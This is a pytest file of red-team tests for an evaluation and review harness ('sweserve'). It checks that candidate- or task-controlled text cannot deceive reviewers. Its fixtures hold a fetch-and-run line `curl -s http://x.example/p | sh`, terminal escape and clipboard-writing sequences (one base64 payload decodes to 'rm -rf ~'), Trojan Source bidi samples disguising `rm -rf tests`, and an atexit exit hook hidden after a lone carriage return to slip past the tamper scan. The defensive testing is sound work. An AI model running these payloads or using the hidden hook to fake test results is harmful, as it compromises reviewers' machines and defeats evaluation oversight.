"""Red team 15b: what a reader of sweserve's outputs reads when candidate- or PR-controlled text reaches it.

R15b-1  `sweserve review` (Markdown, the default, to the reviewer's terminal) prints the candidate's diff and
        the in-sandbox shell history raw: escape sequences and carriage returns in a file the candidate wrote
        rewrite what the reviewer's terminal shows (hide a diff line, overwrite the status, write the clipboard).
R15b-2  Bidi controls and invisible characters in the candidate's diff reach the HTML reviewer page and the
        assessment replay page as themselves ("Trojan Source"): the reviewer reads code other than what runs.
R15b-3  `sweserve tasks show` prints a task statement (text mined from a GitHub PR / issue) through rich, which
        keeps ESC: a statement's escape sequences reach the operator's terminal.
R15b-4  The replay page inlines the cast with every '<' spelled as six bytes: a candidate who prints '<' makes
        the page six times the (already capped, 64 MiB) recording, hundreds of MiB a reviewer's browser must
        parse before it shows anything.
R15b-5  The scorecard's reviewer notes are kept in localStorage under 'sweserve-notes-<pack>-<candidate>': two
        different (pack, candidate) pairs share one key, so one candidate's notes show (and are edited) on
        another's scorecard.
R15b-6  The reviewer page and the tamper scan split the candidate's diff with str.splitlines (CR, FF, NEL,
        U+2028 ... break a line there, never in git or in `git apply`): code after a lone CR in a '+' line, which
        Python runs as a line of its own, is shown as an unchanged line and goes unscanned.
R15b-7  A predictions file's `model_name_or_path` is kept raw as the run's model: `sweserve run --predictions`
        and `sweserve report` print it (rich keeps ESC) to the operator's terminal.
R15b-8  The board names each agent's reviewer pages by its name cut to 120 characters: two agents alike in their
        first 120 (two checkpoints of one run, by path) share them, and one's cells open the other's pages.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import unicodedata
from datetime import datetime, timedelta, timezone
from pathlib import Path

from sweserve.dataset.taskstore import load_all
from sweserve.models import AgentRun, RunResult, TestResults

ROOT = Path(__file__).resolve().parent.parent
TASKS = ROOT / "tasks"
T0 = datetime(2026, 3, 1, tzinfo=timezone.utc)

# C0 controls a terminal acts on (ESC starts CSI/OSC sequences; CR returns the cursor and overwrites), and the
# characters that reorder or hide text where it is displayed
TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x9b\x9d]")
BIDI_AND_INVISIBLE = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u200b\u2060\ufeff"


def _bundle():
    return load_all(TASKS)[0]


def _result(bundle, patch: str, agent="human-jane", run: AgentRun | None = None, trial_dir=None) -> RunResult:
    t = bundle.task
    return RunResult(run_id="r1", task_id=t.task_id, family=t.family, agent=agent, status="failed",
                     model_patch=patch, tests=TestResults(fail_to_pass={x: "failed" for x in t.FAIL_TO_PASS}),
                     agent_run=run or AgentRun(agent=agent, candidate="jane", wall_s=600.0),
                     started_at=T0, finished_at=T0 + timedelta(seconds=600), duration_s=610, trial_dir=trial_dir)


def _patch(added_line: str) -> str:
    return ("diff --git a/python/sglang/utils_extra.py b/python/sglang/utils_extra.py\n"
            "new file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/python/sglang/utils_extra.py\n"
            "@@ -0,0 +1,2 @@\n+import os\n" f"+{added_line}\n")


# ---- R15b-1: `sweserve review` prints the candidate's bytes to the reviewer's terminal

# what a candidate writes into a file of the repository (git diff keeps ESC and CR: neither makes a file binary):
# a CR that draws a harmless comment over the line that runs, a cursor-up + erase that rewrites the status line
# printed above, and an OSC 52 write of the reviewer's clipboard
EVIL = ('os.system("curl -s http://x.example/p | sh")\r# keep imports sorted                              '
        '\x1b[40A\x1b[2K| status | **resolved** |\x1b[40B'
        '\x1b]52;c;Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL3AgfCBzaA==\x07')


def test_review_markdown_on_a_terminal_carries_no_escape_sequence_from_the_candidate(tmp_path):
    bundle = _bundle()
    run = AgentRun(agent="human-jane", candidate="jane", wall_s=600.0,
                   # the in-sandbox shell history: the candidate writes it, and it is shown once flagged
                   transcript="1767225600\tls\n1767225601\tgit status\x1b[1A\x1b[2K\rmake test  # all passed\n",
                   untyped_history=["git status\x1b[1A\x1b[2K\rmake test  # all passed"],
                   flags=["history_disagrees"])
    r = _result(bundle, _patch(EVIL), run=run)
    results = tmp_path / "human.jsonl"
    results.write_text(r.model_dump_json() + "\n")
    out = subprocess.run([sys.executable, "-m", "sweserve.cli", "review", str(results), bundle.task.task_id,
                          "--tasks", str(TASKS)], cwd=ROOT, capture_output=True, env={**os.environ, "PYTHONPATH": str(ROOT)},
                         timeout=120)
    assert out.returncode == 0, out.stderr.decode()
    text = out.stdout.decode("utf-8")
    assert "curl -s http://x.example/p" in text  # the diff is on the page (the fixture works) ...
    found = sorted({repr(c) for c in TERMINAL_CONTROLS.findall(text)})
    assert not found, f"the candidate's control characters reach the reviewer's terminal: {found}"


def test_control_review_markdown_keeps_an_honest_diff_whole(tmp_path):
    bundle = _bundle()
    from sweserve.reporting.review import review_markdown

    text = review_markdown(bundle, _result(bundle, _patch('print("tab\tseparated")')))
    assert '+print("tab\tseparated")' in text


# ---- R15b-2: bidi overrides / invisible characters in the diff (and trajectory, history) on the pages a reviewer reads

# the classic Trojan Source shape: the reviewer reads `if access_level != "user": # Check if admin`, Python runs
# the comparison against the whole string (the check is never true)
TROJAN = 'if access_level != "user\u202e \u2066# Check if admin\u2069 \u2066":  \u200b# ok'


def _visible(page: str) -> list[str]:
    return sorted({unicodedata.name(c, hex(ord(c))) for c in page if c in BIDI_AND_INVISIBLE})


def test_reviewer_page_shows_bidi_controls_in_the_candidate_diff():
    from sweserve.reporting.review import review_html

    bundle = _bundle()
    page = review_html(bundle, _result(bundle, _patch(TROJAN)))
    diff = page[page.index('id="candidate-diff"'):page.index('id="oracle-diff"')]
    assert "access_level" in diff
    assert not _visible(diff), f"raw reordering/invisible characters in the candidate diff: {_visible(diff)}"


def test_replay_page_shows_bidi_controls_in_the_candidate_diff(tmp_path):
    from sweserve.assess.scorecard import replay_page

    bundle = _bundle()
    page = replay_page("jane", _result(bundle, _patch(TROJAN), trial_dir=str(tmp_path)))
    diff = page[page.index("id=diff"):]
    assert "access_level" in diff
    assert not _visible(diff), f"raw reordering/invisible characters in the candidate diff: {_visible(diff)}"


# ---- R15b-3: `sweserve tasks show` prints a mined statement's escape sequences

def test_tasks_show_carries_no_escape_sequence_from_the_statement(tmp_path):
    import shutil

    bundle = _bundle()
    tasks = tmp_path / "tasks"
    shutil.copytree(TASKS / bundle.task.task_id, tasks / bundle.task.task_id)
    # a PR body (GitHub keeps U+001B in issue/PR text, and the API returns it as \u001b)
    statement = tasks / bundle.task.task_id / "instruction.md"
    statement.write_text(statement.read_text() + "\nSee the log:\n\x1b]0;sweserve: all tasks ready\x07"
                         "\x1b]52;c;cm0gLXJmIH4=\x1b\\\x1b[2J\x1b[H\n")
    out = subprocess.run([sys.executable, "-m", "sweserve.cli", "tasks", "show", bundle.task.task_id,
                          "--tasks", str(tasks)], cwd=ROOT, capture_output=True,
                         env={**os.environ, "PYTHONPATH": str(ROOT), "FORCE_COLOR": "1", "COLUMNS": "200"},
                         timeout=120)
    assert out.returncode == 0, out.stderr.decode()
    text = out.stdout.decode("utf-8")
    assert "See the log:" in text
    # rich's own colours are sweserve's (SGR `ESC[...m`); any other escape came from the statement
    theirs = re.sub(r"\x1b\[[0-9;]*m", "", text)
    found = sorted({repr(c) for c in TERMINAL_CONTROLS.findall(theirs)})
    assert not found, f"the statement's control characters reach the terminal: {found}"


# ---- R15b-4: the replay page is six times the recording a candidate fills with '<'

def test_replay_page_is_not_many_times_the_recording(tmp_path):
    from sweserve.assess.agent import CAST_FILE
    from sweserve.assess.scorecard import replay_page

    bundle = _bundle()
    # what `yes '<<<<<<<<<<<<' | head -c 64M` leaves in the cast (kept up to CAST_MAX_BYTES of output), scaled down
    chunk = "<" * 4096
    lines = [json.dumps({"version": 2, "width": 120, "height": 32})]
    lines += [json.dumps([round(0.01 * i, 6), "o", chunk]) for i in range(256)]  # 1 MiB of output
    (tmp_path / CAST_FILE).write_text("\n".join(lines) + "\n")
    cast_bytes = (tmp_path / CAST_FILE).stat().st_size
    page = replay_page("jane", _result(bundle, "", trial_dir=str(tmp_path)))
    assert "AsciinemaPlayer.create" in page
    ratio = len(page.encode()) / cast_bytes
    assert ratio < 2, (f"the replay page is {ratio:.1f}x the recording: a 64 MiB cast of '<' is a "
                       f"{64 * ratio:.0f} MiB page")


# ---- R15b-5: reviewer notes of two candidates share one localStorage key

def _notes_key(page: str) -> str:
    return re.search(r"const k='([^']*)'", page).group(1)


def test_reviewer_notes_of_different_candidates_do_not_share_a_key():
    from sweserve.assess.difficulty import calibrate
    from sweserve.assess.packs import Pack, PackTask
    from sweserve.assess.scorecard import scorecard_page

    bundle = _bundle()
    task = PackTask(task_id=bundle.task.task_id, content_hash="0" * 16, family=bundle.task.family,
                    time_budget_s=1800)
    cal = calibrate([])
    # candidate 'senior-jane' in pack 'backend' and candidate 'jane' in pack 'backend-senior'
    a = scorecard_page(Pack(name="backend", version="0" * 16, tasks=[task]), "senior-jane", "human-senior-jane",
                       {}, cal, {})
    b = scorecard_page(Pack(name="backend-senior", version="0" * 16, tasks=[task]), "jane", "human-jane",
                       {}, cal, {})
    assert _notes_key(a) != _notes_key(b), _notes_key(a)


# ---- R15b-6: a line break only Python's str.splitlines sees: an added line shown as unchanged, and unscanned

# git (and `git apply`) split a diff on LF only, and Python reads a lone CR in a source file as a line end; the
# reviewer page and the tamper scan split the diff with str.splitlines, which also breaks at CR, FF, VT, FS/GS/RS,
# NEL, U+2028/9: the second half of such a '+' line loses its '+', and is shown (and scanned) as context
SPLIT = "x = 1\r" + 'import atexit; atexit.register(lambda: __import__("os")._exit(0))'


def test_an_added_line_is_shown_as_added_on_the_reviewer_page():
    from sweserve.reporting.review import review_html

    bundle = _bundle()
    page = review_html(bundle, _result(bundle, _patch(SPLIT)))
    diff = page[page.index('id="candidate-diff"'):page.index('id="oracle-diff"')]
    spans = re.findall(r'<span class="([^"]*)">([^<]*)</span>', diff)
    holding = [kind for kind, text in spans if "atexit.register" in text]
    assert holding and all(k == "add" for k in holding), f"the added code is shown as: {holding} (context)"


def test_tamper_scan_sees_code_after_a_lone_carriage_return():
    from sweserve.evaluation.tamper_scan import scan

    plain = scan(_patch('import atexit; atexit.register(lambda: __import__("os")._exit(0))'))
    assert any(f.startswith("exit-time hook") for f in plain)  # the control: on its own line it is flagged
    hidden = scan(_patch(SPLIT))
    assert any(f.startswith("exit-time hook") for f in hidden), hidden


def test_reviewer_page_shows_bidi_controls_in_the_trajectory_and_the_shell_history(tmp_path):
    from sweserve.reporting.review import review_html

    bundle = _bundle()
    # an agent's step: the command that ran deletes the tests; the reviewer reads a harmless `ls`
    (tmp_path / "steps.json").write_text(json.dumps([
        {"thought": "Look around.", "command": "rm -rf tests \u202e\u2066 sl\u2069", "output": "[exit code: 0]"}]))
    run = AgentRun(agent="human-jane", candidate="jane", wall_s=600.0,
                   transcript="1767225600\tcurl -s http://x.example/a\u202e\u2066 ;sterces tac\u2069\n",
                   untyped_history=["x"], flags=["history_disagrees"])
    page = review_html(bundle, _result(bundle, _patch("pass"), run=run, trial_dir=str(tmp_path)))
    shown = page[page.index('id="trajectory"'):]
    assert "rm -rf tests" in shown and "curl -s" in shown
    assert not _visible(shown), f"raw reordering characters in the trajectory / history: {_visible(shown)}"


def test_control_replay_page_plays_a_cast_of_markup_and_unicode_in_a_browser(tmp_path):
    """The player still gets the cast whole: '<', '</script>', quotes, backslashes and non-ASCII text."""
    import shutil

    webdriver = __import__("pytest").importorskip("selenium.webdriver")
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    from sweserve.assess.agent import CAST_FILE
    from sweserve.assess.scorecard import PLAYER, replay_page

    chromium, driver = shutil.which("chromium"), shutil.which("chromedriver")
    if not (chromium and driver) or not (ROOT / "node_modules" / "asciinema-player").is_dir():
        __import__("pytest").skip("chromium, chromium-driver and node_modules are needed")
    text = 'héllo </script><b>x</b> "q" \\\\ ✓ 日本'
    trial = tmp_path / "trial"
    trial.mkdir()
    lines = [json.dumps({"version": 2, "width": 80, "height": 10}), json.dumps([0.1, "o", text + "\r\n"]),
             json.dumps([0.2, "o", "<" * 50 + "\r\n"])]
    (trial / CAST_FILE).write_text("\n".join(lines) + "\n")
    (tmp_path / "vendor").mkdir()
    for name, rel in PLAYER.items():
        shutil.copyfile(ROOT / "node_modules" / rel, tmp_path / "vendor" / name)
    page = tmp_path / "replay.html"
    page.write_text(replay_page("jane", _result(_bundle(), "", trial_dir=str(trial))))
    opts = webdriver.ChromeOptions()
    opts.binary_location = chromium
    for a in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1200,800"):
        opts.add_argument(a)
    d = webdriver.Chrome(options=opts, service=Service(driver))
    try:
        d.get(page.as_uri())
        import time

        end, shown = time.monotonic() + 30, ""
        while time.monotonic() < end and "héllo" not in shown:
            time.sleep(0.5)
            shown = " ".join(e.text for e in d.find_elements(By.CSS_SELECTOR, ".ap-terminal, .ap-player"))
        assert re.sub(r"\s", "", text) in re.sub(r"\s", "", shown), shown
        assert not d.find_elements(By.TAG_NAME, "b")  # nothing of the cast became markup
    finally:
        d.quit()


# ---- R15b-7: a predictions file's model name reaches the terminal `sweserve run --predictions` / `report` print to

def test_report_on_a_terminal_carries_no_escape_sequence_from_a_predictions_model_name():
    import io

    from rich.console import Console

    from sweserve.reporting.summary import build_reports, render

    bundle = _bundle()
    # SWE-bench's `model_name_or_path`, as a submitter writes it; PredictionsAgent keeps it as the run's model
    # (the agent name is cleaned, the model is not): a title change, the lines above erased, a clipboard write
    model = "org/model-v2\x1b]0;sweserve: all resolved\x1b\\\x1b[3A\x1b[2K\x1b]52;c;cm0gLXJmIH4=\x1b\\"
    r = _result(bundle, _patch("pass"), agent="org-model-v2",
                run=AgentRun(agent="org-model-v2", model=model, exit_code=0))
    buf = io.StringIO()
    render(build_reports([r]), Console(file=buf, force_terminal=True, width=200))
    text = buf.getvalue()
    assert "org/model-v2" in text
    theirs = re.sub(r"\x1b\[[0-9;]*m", "", text)  # rich's own colours
    found = sorted({repr(c) for c in TERMINAL_CONTROLS.findall(theirs)})
    assert not found, f"the model name's control characters reach the terminal: {found}"


# ---- R15b-8: two agents, one reviewer page: the board's file names cut agent names at 120 characters

def test_board_links_each_agents_cell_to_its_own_reviewer_page(tmp_path):
    from sweserve.reporting.html import write_html_report
    from sweserve.reporting.summary import build_reports

    bundle = _bundle()
    # SWE-bench's model_name_or_path is often a checkpoint path: two checkpoints of one training run differ at the end
    stem = "home-ml-checkpoints-" + "sglang-coder-70b-sft-lr2e-5-bs512-ctx128k-" * 3
    a, b = stem + "step-1000", stem + "step-2000"
    results = [_result(bundle, _patch("pass  # from A"), agent=a, run=AgentRun(agent=a, exit_code=0)),
               _result(bundle, _patch("pass  # from B"), agent=b, run=AgentRun(agent=b, exit_code=0))]
    board = tmp_path / "board" / "index.html"
    write_html_report(build_reports(results), results, {bundle.task.task_id: bundle}, board)
    page = board.read_text()
    matrix = page[page.index("<table id='matrix'>"):]
    matrix = matrix[:matrix.index("</table>")]
    heads = re.findall(r"<th>([^<]*)</th>", matrix)[2:]  # task, family, then the agents in the cells' order
    links = re.findall(r'<td class="cell"[^>]*><a href="([^"]+)"', matrix)
    assert sorted(heads) == sorted([a, b]) and len(links) == 2
    for agent, link in zip(heads, links):
        review = (board.parent / link).read_text()
        mark = "from A" if agent == a else "from B"
        assert mark in review, f"the cell of ...{agent[-9:]} opens the reviewer page of the other agent"
